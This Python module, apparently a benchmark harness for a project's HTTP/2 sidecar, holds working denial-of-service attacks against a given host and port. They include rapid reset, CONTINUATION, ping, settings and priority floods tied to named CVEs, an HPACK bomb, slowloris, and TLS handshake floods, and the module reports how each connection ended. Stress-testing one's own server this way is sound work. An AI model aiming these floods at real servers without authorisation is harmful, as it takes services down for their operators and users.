"""What one hostile peer does, at full speed, over raw sockets: the attacks of `make hostile`, and the process that runs one of them.

    python -m bench.attacks NAME HOST:PORT SECONDS

Nothing here speaks HTTP/2 properly: bytes are built beforehand, pushed as fast as the socket takes them, and a connection that the
other side ends is opened again at once. Prints as JSON what was sent and how connections ended.
"""

from __future__ import annotations

import contextlib
import errno
import itertools
import json
import os
import selectors
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from clients.python.api import agent_pb2 as pb
from sidecar.http2 import frames
from sidecar.http2.errors import ErrorCode
from sidecar.http2.hpack import encode_field

Chunks = Iterator[tuple[bytes, int]]
"""(bytes, frames in them) one after the other; the connection is ended by us when there are no more."""

METHOD = b"/" + pb.DESCRIPTOR.services_by_name["AgentService"].full_name.encode() + b"/Execute"
_BODY = pb.ExecuteRequest(operation="query", parameters={"sql": "SELECT 1"}).SerializeToString()
MESSAGE = b"\0" + len(_BODY).to_bytes(4, "big") + _BODY


def block(*fields: tuple[bytes, bytes]) -> bytes:
    return b"".join([encode_field(name, value)[2] for name, value in fields])


REQUEST = block(
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", METHOD),
    (b":authority", b"localhost"),
    (b"te", b"trailers"),
    (b"content-type", b"application/grpc"),
)
OPENING = frames.PREFACE + frames.settings({}) + frames.SETTINGS_ACK
WIDTH = 4
"""Connections that attack at the same time."""
_STREAMS = 20_000
"""Pieces with stream ids that are built for one connection; then it starts again on a new one."""
_PER_CHUNK = 250
_LEFT_UNREAD = 4096


@dataclass(slots=True)
class Attack:
    """`chunks` makes what one connection sends after `opening`."""

    about: str
    chunks: Callable[[], Chunks]
    opening: bytes = OPENING
    width: int = WIDTH
    reads: bool = True
    tls: bool = False
    """Goes to the listener with TLS; what is sent is still raw."""
    pause: float = 0.0
    """Seconds between the chunks of one connection: slow attacks are slow on purpose."""
    own: Callable[[tuple[str, int], float, Tally], None] | None = None
    """Instead of all that: a loop of its own."""


@dataclass(slots=True)
class Tally:
    connections: int = 0
    frames: int = 0
    bytes: int = 0
    ends: Counter[str] = field(default_factory=Counter)


# ── pieces ──


def headers(stream_id: int, fields: bytes = REQUEST, flags: int = 0x4) -> bytes:
    return frames.header(len(fields), frames.HEADERS, flags, stream_id) + fields


def long_headers(stream_id: int, fields: bytes) -> bytes:
    """In as few frames as are allowed."""
    return frames.headers(stream_id, fields, end_stream=False, max_frame=frames.DEFAULT_MAX_FRAME)


def whole_request(stream_id: int) -> bytes:
    return headers(stream_id) + frames.header(len(MESSAGE), frames.DATA, frames.END_STREAM, stream_id) + MESSAGE


def same(piece: bytes, frames_in_it: int = 1) -> Callable[[], Chunks]:
    """The same bytes for ever."""
    count = max(1, 32_768 // len(piece))
    chunk = (piece * count, count * frames_in_it)
    return lambda: itertools.repeat(chunk)


def after(first: bytes, piece: bytes, frames_in_it: int = 1) -> Callable[[], Chunks]:
    """`first` once, then the same bytes for ever."""
    endless = same(piece, frames_in_it)
    return lambda: itertools.chain([(first, 1)], endless())


def numbered(piece: Callable[[int], bytes], frames_in_it: int, count: int = _STREAMS) -> Callable[[], Chunks]:
    """`piece(i)` for i = 0, 1, 2 …; built once, as an attacker would."""
    built: list[tuple[bytes, int]] = []

    def chunks() -> Chunks:
        if not built:
            for start in range(0, count, _PER_CHUNK):
                many = range(start, min(start + _PER_CHUNK, count))
                built.append((b"".join(map(piece, many)), len(many) * frames_in_it))
        return iter(built)

    return chunks


def held(*first: bytes) -> Callable[[], Chunks]:
    """Send once and keep the connection."""
    return lambda: iter([(b"".join(first), len(first)), (b"", 0)])


def _trickle() -> Chunks:
    yield OPENING + headers(1, REQUEST[:5], 0x0), 3
    while True:
        yield frames.header(0, frames.CONTINUATION, 0, 1), 1


def _bomb() -> bytes:
    """One entry of 3.9 KiB put into the dynamic table, then named 50,000 times: 200 MB if anybody believed it."""
    entry = b"\x40\x01a\x7f\x81\x1e" + b"v" * (127 + 1 + 30 * 128)
    return REQUEST + entry + b"\xbe" * 50_000


_HUGE = REQUEST + b"".join(block((b"x-%d" % i, b"v" * 90)) for i in range(600))
_OPEN_1000 = b"".join(headers(2 * i + 1) for i in range(1000))
_STALLED = (
    frames.PREFACE
    + frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
    + frames.SETTINGS_ACK
    + b"".join(whole_request(2 * i + 1) for i in range(1000))
)
_MANY_SETTINGS = b"".join(
    frames.INITIAL_WINDOW_SIZE.to_bytes(2, "big") + (65_535 + i % 2).to_bytes(4, "big") for i in range(2_700)
)
_MALFORMED = (
    frames.window_update(0, 2**31 - 1),
    frames.header(5, frames.PING, 0, 0) + b"short",
    frames.header(0xFFFFFF, frames.DATA, 0, 1),
    headers(2),
    headers(1, b"\x80"),
    frames.header(1, frames.DATA, 0, 0) + b"x",
    frames.settings({frames.MAX_FRAME_SIZE: 1}),
    frames.header(0, frames.PUSH_PROMISE, 4, 1),
)


def _malformed() -> Chunks:
    turn = time.monotonic_ns() // 1000
    yield OPENING + headers(1) + _MALFORMED[turn % len(_MALFORMED)], 4
    yield b"", 0


# ── attacks that are not about what is sent ──


def _connect(address: tuple[str, int], tally: Tally) -> socket.socket | None:
    try:
        made = socket.create_connection(address, timeout=2)
    except OSError as error:
        tally.ends[f"not connected: {errno.errorcode.get(error.errno or 0, type(error).__name__)}"] += 1
        if error.errno == errno.EADDRNOTAVAIL:
            # Our own ports are used up (TIME_WAIT); the other side has nothing to do with it.
            time.sleep(0.05)
        return None
    tally.connections += 1
    return made


def _hang_up(made: socket.socket) -> None:
    # An abort, not a close: TIME_WAIT would use up our ports within seconds.
    made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
    made.close()


def connection_flood(address: tuple[str, int], ends: float, tally: Tally) -> None:
    while time.monotonic() < ends:
        made = _connect(address, tally)
        if made is not None:
            _hang_up(made)


def _client_hello() -> bytes:
    out = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), out).do_handshake()
    return out.read()


def hello_flood(address: tuple[str, int], ends: float, tally: Tally) -> None:
    """A real ClientHello, so that the other side signs its answer; hang up when that comes."""
    hello = _client_hello()
    waiting: list[socket.socket] = []
    while time.monotonic() < ends:
        made = _connect(address, tally)
        if made is not None:
            made.sendall(hello)
            tally.bytes += len(hello)
            tally.frames += 1
            waiting.append(made)
        if len(waiting) >= 32:
            for each in waiting:
                try:
                    each.settimeout(2)
                    tally.ends["ServerHello" if each.recv(65_536) else "closed"] += 1
                except OSError as error:
                    tally.ends[type(error).__name__] += 1
                _hang_up(each)
            waiting.clear()


def handshake_flood(address: tuple[str, int], ends: float, tally: Tally) -> None:
    """Whole handshakes without the certificate that is asked for."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while time.monotonic() < ends:
        made = _connect(address, tally)
        if made is None:
            continue
        try:
            with context.wrap_socket(made) as secured:
                secured.settimeout(2)
                tally.ends["data" if secured.recv(1) else "closed"] += 1
        except ssl.SSLError as error:
            tally.ends[f"alert: {(error.reason or 'unknown').lower().replace('_', ' ')}"] += 1
        except OSError as error:
            tally.ends[type(error).__name__] += 1


def spin(_address: tuple[str, int], ends: float, _tally: Tally) -> None:
    """No attack: burns one core, so that what the scheduler takes from the others can be told apart."""
    while time.monotonic() < ends:
        for _ in range(10_000):
            pass


ATTACKS: dict[str, Attack] = {
    "rapid reset": Attack(
        "CVE-2023-44487: open a request, reset it",
        numbered(lambda i: headers(2 * i + 1) + frames.rst_stream(2 * i + 1, ErrorCode.CANCEL), 2),
    ),
    "made you reset": Attack(
        "CVE-2025-8671: open a request, provoke our reset",
        numbered(lambda i: headers(2 * i + 1) + frames.window_update(2 * i + 1, 2**31 - 1), 2),
    ),
    "refused streams": Attack("streams beyond the announced limit", numbered(lambda i: headers(2 * i + 1), 1)),
    "settings": Attack("CVE-2019-9515", same(frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535}))),
    "settings over open streams": Attack(
        "one frame moves the windows of 1000 streams 2700 times",
        after(_OPEN_1000, frames.header(len(_MANY_SETTINGS), frames.SETTINGS, 0, 0) + _MANY_SETTINGS),
    ),
    "ping": Attack("CVE-2019-9512", same(frames.ping(b"hostile!", ack=False))),
    "empty data": Attack("CVE-2019-9518", after(headers(1), frames.header(0, frames.DATA, 0, 1))),
    "one-byte data": Attack("a byte of DATA under nine of header", after(headers(1), frames.header(1, 0, 0, 1) + b"x")),
    "continuation": Attack(
        "CVE-2024-27316: a header block without end",
        after(headers(1, REQUEST, 0x0), frames.header(1000, frames.CONTINUATION, 0, 1) + b"\0" * 1000),
    ),
    "hpack bomb": Attack("a small block that says 200 MB", numbered(lambda i: long_headers(2 * i + 1, _bomb()), 1, 200)),
    "huge header list": Attack("63 KiB of fields, again and again", numbered(lambda i: long_headers(2 * i + 1, _HUGE), 1, 500)),
    "window updates": Attack("one more byte, for ever", same(frames.window_update(0, 1))),
    "window updates over stalled streams": Attack(
        "1000 answers wait for windows; each update asks to look at all of them",
        same(frames.window_update(0, 1)),
        opening=_STALLED,
    ),
    "window updates on ended streams": Attack(
        "", after(headers(1) + frames.rst_stream(1, ErrorCode.CANCEL), frames.window_update(1, 1))
    ),
    "priority": Attack("CVE-2019-9513", same(frames.header(5, frames.PRIORITY, 0, 1) + b"\0\0\0\0\7")),
    "unknown frames": Attack("", same(frames.header(1, 0x42, 0, 0) + b"x")),
    "slow reader": Attack("1000 whole requests on each connection, no window for answers, nothing read", held(), opening=_STALLED, reads=False),
    "slowloris": Attack("1000 connections with half a header block", _trickle, opening=b"", width=1000, pause=1.0),
    "garbage preface": Attack("random bytes instead of a preface", lambda: iter([(os.urandom(2048), 1), (b"", 0)]), opening=b""),
    "malformed, and again": Attack("a connection error, then the next connection", _malformed, opening=b""),
    "connections": Attack("connect, hang up", held(), own=connection_flood),
    "half-open tls": Attack("1000 connections with the first bytes of a handshake", held(b"\x16\x03\x01"), opening=b"", width=1000, tls=True),
    "tls hello": Attack("a ClientHello, hang up at the answer", held(), own=hello_flood, tls=True),
    "tls handshakes": Attack("whole handshakes without a certificate", held(), own=handshake_flood, tls=True),
}  # fmt: skip


class Lane:
    """One connection of the attacker, and the ones that follow it."""

    __slots__ = ("attack", "chunks", "due", "frames", "heard", "left", "socket", "starved")

    def __init__(self, attack: Attack) -> None:
        self.attack = attack
        self.socket: socket.socket | None = None

    def connect(self, address: tuple[str, int], tally: Tally) -> bool:
        self.socket = _connect(address, tally)
        if self.socket is None:
            return False
        self.socket.setblocking(False)
        self.chunks = self.attack.chunks()
        self.left = memoryview(self.attack.opening)
        self.frames = 0
        self.heard = b""
        self.starved = False
        self.due = 0.0
        return True

    def push(self, tally: Tally) -> None:
        """Send until the socket is full, or a pause is due. Raises OSError."""
        assert self.socket is not None
        for _ in range(4):
            if not self.left:
                tally.frames += self.frames
                chunk = next(self.chunks, None)
                if chunk is None:
                    raise StopIteration
                self.left, self.frames = memoryview(chunk[0]), chunk[1]
                if not chunk[0]:
                    # Nothing more to say; wait for the end.
                    self.starved = True
                    return
                if self.attack.pause and tally.frames:
                    self.due = time.monotonic() + self.attack.pause
            try:
                sent = self.socket.send(self.left)
            except BlockingIOError:
                return
            tally.bytes += sent
            self.left = self.left[sent:]
            if self.attack.pause:
                return

    def hear(self) -> str | None:
        """Read; how the connection ended, or None. Raises OSError."""
        assert self.socket is not None
        try:
            data = self.socket.recv(262_144)
        except BlockingIOError:
            return None
        if not data:
            return self.last_word()
        self.heard = (self.heard + data)[-_LEFT_UNREAD:]
        return None

    def last_word(self) -> str:
        at = self.heard.rfind(b"\x07\0\0\0\0\0")
        if at >= 0 and len(self.heard) >= at + 14:
            return f"GOAWAY {ErrorCode(int.from_bytes(self.heard[at + 10 : at + 14], 'big')).name}"
        return "closed"


def run(attack: Attack, address: tuple[str, int], seconds: float) -> Tally:
    tally = Tally()
    ends = time.monotonic() + seconds
    if attack.own is not None:
        attack.own(address, ends, tally)
        return tally
    selector = selectors.DefaultSelector()
    both = selectors.EVENT_READ | selectors.EVENT_WRITE
    unopened = [Lane(attack) for _ in range(attack.width)]
    sleeping: list[Lane] = []
    while (now := time.monotonic()) < ends:
        for lane in unopened[:32]:
            if not lane.connect(address, tally):
                break
            unopened.remove(lane)
            assert lane.socket is not None
            selector.register(lane.socket, both if attack.reads else selectors.EVENT_WRITE, lane)
        for lane in [each for each in sleeping if each.due <= now]:
            sleeping.remove(lane)
            if lane.socket is not None:
                selector.modify(lane.socket, both, lane)
        for key, events in selector.select(0.0 if unopened else 0.02):
            lane = key.data
            end: str | None = None
            try:
                if events & selectors.EVENT_READ:
                    end = lane.hear()
                if end is None and events & selectors.EVENT_WRITE:
                    lane.push(tally)
                    if lane.starved or lane.due > now:
                        quiet = selectors.EVENT_READ if attack.reads else 0
                        if quiet:
                            selector.modify(lane.socket, quiet, lane)
                        else:
                            selector.unregister(lane.socket)
                        if lane.due > now:
                            sleeping.append(lane)
            except StopIteration:
                end = "ended by the attacker"
            except OSError as error:
                end = lane.last_word() if lane.heard else "closed"
                if not end.startswith("GOAWAY"):
                    end = errno.errorcode.get(error.errno or 0, type(error).__name__)
            if end is not None:
                tally.ends[end] += 1
                with contextlib.suppress(KeyError):
                    selector.unregister(lane.socket)
                _hang_up(lane.socket)
                if lane in sleeping:
                    sleeping.remove(lane)
                unopened.append(lane)
    tally.ends["open at the end"] = attack.width - len(unopened)
    return tally


def main(arguments: list[str]) -> None:
    name, address, seconds = arguments
    host, _, port = address.rpartition(":")
    attack = Attack("", held(), own=spin) if name == "spin" else ATTACKS[name]
    if attack.own is None:
        # Whatever is built beforehand is built before the clock runs.
        next(attack.chunks())
    print("ready", flush=True)
    tally = run(attack, (host, int(port)), float(seconds))
    print(
        json.dumps(
            {
                "connections": tally.connections,
                "frames": tally.frames,
                "bytes": tally.bytes,
                "ends": {name: count for name, count in tally.ends.most_common() if count},
            }
        )
    )


if __name__ == "__main__":
    main(sys.argv[1:])
